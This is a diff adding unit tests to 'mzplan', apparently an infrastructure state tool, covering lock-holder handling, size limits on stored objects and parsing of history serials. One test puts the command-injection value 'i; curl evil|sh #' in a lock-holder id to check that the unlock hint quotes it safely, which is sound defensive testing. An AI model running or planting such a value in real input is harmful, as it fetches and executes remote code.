@@ -24,8 +24,12 @@ from mzplan.host.processes import is_alive
 from mzplan.model.address import Address
 from mzplan.model.diagnostics import MzplanError
 from mzplan.runner.loop import Runner
+from mzplan.store.backends.backend import MAX_BLOB
 from mzplan.store.backends.local import STATE_KEY, LocalBackend
+from mzplan.store.backends.objects import ObjectStoreBackend
+from mzplan.store.backends.postgres import PostgresBackend
 from mzplan.store.formats import decode_status, encode_status
+from mzplan.store.proposals import Proposals
 from mzplan.store.store import Store
 from tests.runners import runner_in_memory
 from tests.unit.cli_runs import Ran, apply, mzplan, write
@@ -89,7 +93,7 @@ def at(address: str, **values: Any) -> Edit:
         (at("source.orders", body=[]), "source.orders: body is not a mapping"),
         (at("source.orders", body={"instance": "../x"}), "instance is not the name of an instance"),
         (at("source.orders", body={"instance": "gone"}), "no instance gone is declared"),
-        (at("sink.out", references={}), "sink.out should read a source"),
+        (at("sink.out", references={}), "sink.out should read a collection"),
         (
             at("source.orders", references={"connection": "source.orders"}),
             "resources need each other in a circle: source.orders needs source.orders",
@@ -284,6 +288,15 @@ def test_garbage_in_the_lock_is_no_hindrance(folder: Path, garbage: bytes) -> No
         lock.write_bytes(garbage)
         ran = mzplan(folder, "destroy", "--auto-approve", "--json")
     assert (ran.code, ran.error()["code"]) == (6, "MZ033")
+
+
+def test_a_holder_cannot_have_a_shell_do_anything(folder: Path) -> None:
+    lock = folder / "state" / "lock"
+    holder = {"id": "i; curl evil|sh #", "command": "x", "user": "u", "host": "h", "pid": 1, "time": "t"}
+    with Store(LocalBackend(folder / "state"), "shop").lock("test"):
+        lock.write_text(json.dumps(holder))
+        hint = mzplan(folder, "destroy", "--auto-approve", "--json").error()["hint"]
+    assert hint.endswith("mzplan state unlock 'i; curl evil|sh #'")
 
 
 def test_a_holder_cannot_write_to_the_terminal(folder: Path) -> None:
@@ -492,3 +505,63 @@ def test_a_proposal_that_is_huge_or_of_tomorrow_is_dropped(tmp_path: Path) -> No
     (folder / f"{late.id}.json").write_bytes(replace(late, created=9e15).encode())
     assert [proposal.id for proposal in store.proposals.open("local")] == [kept.id]
     assert [path.name for path in folder.iterdir()] == [f"{kept.id}.json"]
+
+
+# --- what is huge, where it is fetched whole
+
+
+@pytest.fixture
+def bucket(tmp_path: Path) -> Path:
+    return tmp_path / "bucket"
+
+
+def objects(bucket: Path) -> ObjectStoreBackend:
+    (bucket / "proposals").mkdir(parents=True)
+    return ObjectStoreBackend({"url": bucket.as_uri()}, str(bucket))
+
+
+def huge(path: Path, size: int) -> None:
+    with path.open("wb") as file:
+        file.truncate(size)  # it takes no disk
+
+
+def test_a_huge_object_is_not_fetched(bucket: Path) -> None:
+    backend = objects(bucket)
+    huge(bucket / STATE_KEY, MAX_BLOB + 1)
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    with pytest.raises(MzplanError) as caught:
+        Store(backend, "shop").read_state()
+    (problem,) = caught.value.diagnostics
+    assert problem.code == "MZ030" and "holds more than 1024 MiB" in problem.detail
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000
+
+
+def test_a_huge_proposal_is_removed_unread(bucket: Path) -> None:
+    backend = objects(bucket)
+    path = bucket / "proposals" / f"{'a' * 16}.json"
+    huge(path, MAX_BLOB)
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    assert Proposals(backend).open("local") == []
+    assert not path.exists()
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000
+
+
+def test_a_huge_row_is_left_at_the_server(monkeypatch: pytest.MonkeyPatch) -> None:
+    asked: list[Any] = []
+
+    def answered(_: Any, *question: Any) -> tuple[None, int]:
+        asked.append(question)
+        return None, 7
+
+    monkeypatch.setattr(PostgresBackend, "_reading", answered)
+    with pytest.raises(MzplanError) as caught:
+        PostgresBackend({"host": "h"}, "/p", "shop").read("proposals/a.json", 8 << 20)
+    assert "holds more than 8 MiB" in caught.value.diagnostics[0].detail
+    assert asked[0][1:] == (8 << 20, "shop", "proposals/a.json")
+
+
+def test_a_serial_of_thousands_of_digits_is_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A file's name has 255 characters; a key of a database, as many as somebody wants."""
+    names = ["history/00000007.json", f"history/{'9' * 5000}.json", "history/²²²²²²²².json"]
+    monkeypatch.setattr(LocalBackend, "list", lambda *_: names)
+    assert Store(LocalBackend(tmp_path), "shop").serials() == [7]
